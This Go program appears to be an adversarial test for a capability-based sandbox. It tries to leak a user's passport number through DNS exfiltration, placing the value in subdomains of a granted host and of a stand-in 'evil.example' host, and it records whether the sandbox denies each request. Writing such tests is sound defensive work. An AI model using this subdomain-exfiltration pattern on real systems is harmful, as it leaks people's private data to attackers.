// Command exfil-subdomain tries to carry Alice's passport out in a host
// name (DNS exfiltration): spliced unread into the authority, then read
// and used as a subdomain of the granted and the evil origin. The origin
// is fixed by the capability (caps/net) and the flow is checked first
// (law 7): EFLOW or EDENIED, nothing resolved or sent.
package main

import (
	"encoding/json"
	"strings"

	mandate "github.com/mandatevm/mandate/guest-sdk"
	"github.com/mandatevm/mandate/guest-sdk/abi"
)

func main() {
	in := readInput()
	web := must(mandate.Lookup("web"))
	mydata := must(mandate.Lookup("mydata"))
	pb, err := mydata.Call("read", []byte(`{"owner":"alice","fields":["passport"]}`))
	rec("read_unread", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "http://" + abi.SplicePlaceholder(0) + ".granted.example:" + in.GrantedPort + "/api", Splice: []abi.Handle{pb.Handle()}})
	rec("splice_subdomain", err)
	// Even without data, a subdomain is another origin.
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "http://public.granted.example:" + in.GrantedPort + "/api"})
	rec("subdomain_clean", err)
	raw, err := pb.Bytes()
	rec("read", err)
	var r struct {
		Fields struct{ Passport string } `json:"fields"`
	}
	json.Unmarshal(raw, &r)
	p := strings.ToLower(r.Fields.Passport)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "http://" + p + ".granted.example:" + in.GrantedPort + "/api"})
	rec("subdomain_granted", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "http://" + p + ".evil.example:" + in.EvilPort + "/"})
	rec("subdomain_evil", err)
	finish()
}

func fetch(c mandate.Cap, r abi.HTTPRequest) (mandate.Blob, error) {
	b, _ := abi.EncodeHTTPRequest(r)
	return c.Call("fetch", b)
}

// res collects each attempt's errno (keys) and details ("#" keys).
var res = map[string]string{}

func rec(k string, err error) { res[k] = mandate.ErrnoOf(err).String() }

func note(k, v string) { res["#"+k] = v }

func finish() {
	b, _ := json.Marshal(res)
	if err := mandate.SetResult(b); err != nil {
		panic(err)
	}
}

type input struct {
	Granted     string            `json:"granted"`
	GrantedHost string            `json:"granted_host"`
	GrantedPort string            `json:"granted_port"`
	Evil        string            `json:"evil"`
	EvilPort    string            `json:"evil_port"`
	Self        string            `json:"self"`
	Digests     map[string]string `json:"digests"`
	Mode        string            `json:"mode"`
}

func readInput() input {
	var in input
	b, err := mandate.InputBytes()
	if err != nil {
		panic(err)
	}
	if err := json.Unmarshal(b, &in); err != nil {
		panic(err)
	}
	return in
}

func must(c mandate.Cap, err error) mandate.Cap {
	if err != nil {
		panic(err)
	}
	return c
}
